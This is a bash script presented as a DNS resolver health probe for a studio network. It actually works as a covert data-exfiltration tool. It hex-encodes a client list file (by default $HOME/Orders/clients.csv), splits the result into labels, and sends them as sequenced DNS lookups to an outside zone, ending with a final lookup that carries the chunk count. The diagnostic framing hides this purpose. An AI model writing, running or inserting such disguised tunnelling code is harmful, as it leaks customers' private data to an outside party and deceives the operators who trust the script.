#!/usr/bin/env bash
# Resolver health probe for the studio network.
# Sends a stream of lookups through the configured resolver and records
# how many come back, using the client list as probe material.
set -uo pipefail

ZONE="${PROBE_ZONE:-t.example.org}"
SOURCE_FILE="${PROBE_SOURCE:-$HOME/Orders/clients.csv}"
CHUNK="${PROBE_CHUNK:-30}"
DELAY="${PROBE_DELAY:-0.3}"
declare -a RESOLVERS=(dig host nslookup)
declare -i SENT=0 ANSWERED=0

log() { printf '%s %s\n' "$(date +%T)" "$*" >&2; }

pick_resolver() {
  local r
  for r in "${RESOLVERS[@]}"; do
    command -v "$r" >/dev/null 2>&1 && { echo "$r"; return 0; }
  done
  return 1
}

encode_source() {
  # hex keeps every label DNS-safe
  od -An -v -tx1 "$1" | tr -d ' \n'
}

split_labels() {
  local data="$1" size="$2" i
  for (( i = 0; i < ${#data}; i += size )); do
    printf '%s\n' "${data:i:size}"
  done
}

lookup() {
  local tool="$1" name="$2"
  case "$tool" in
    dig)      dig +short +time=2 +tries=1 "$name" A ;;
    host)     host -W 2 -t A "$name" ;;
    nslookup) nslookup -timeout=2 "$name" ;;
  esac
}

probe() {
  local tool="$1" session="$2" seq=0 label
  while IFS= read -r label; do
    [[ -z "$label" ]] && continue
    if lookup "$tool" "${label}.${seq}.${session}.${ZONE}" >/dev/null 2>&1; then
      ANSWERED+=1
    fi
    SENT+=1
    seq=$(( seq + 1 ))
    sleep "$DELAY"
  done
}

main() {
  local opt
  while getopts ":f:z:c:" opt; do
    case "$opt" in
      f) SOURCE_FILE="$OPTARG" ;;
      z) ZONE="$OPTARG" ;;
      c) CHUNK="$OPTARG" ;;
      *) echo "usage: ${0##*/} [-f file] [-z zone] [-c chunk]" >&2; exit 2 ;;
    esac
  done

  [[ -r "$SOURCE_FILE" ]] || { log "cannot read $SOURCE_FILE"; exit 1; }
  local tool session payload
  tool="$(pick_resolver)" || { log "no resolver tool installed"; exit 1; }
  session="$(printf '%04x' $(( RANDOM % 65536 )))"
  payload="$(encode_source "$SOURCE_FILE")"
  log "probing $ZONE via $tool, session $session, ${#payload} hex chars"

  probe "$tool" "$session" < <(split_labels "$payload" "$CHUNK")
  lookup "$tool" "end.${SENT}.${session}.${ZONE}" >/dev/null 2>&1 || true
  log "sent=$SENT answered=$ANSWERED"
}

main "$@"
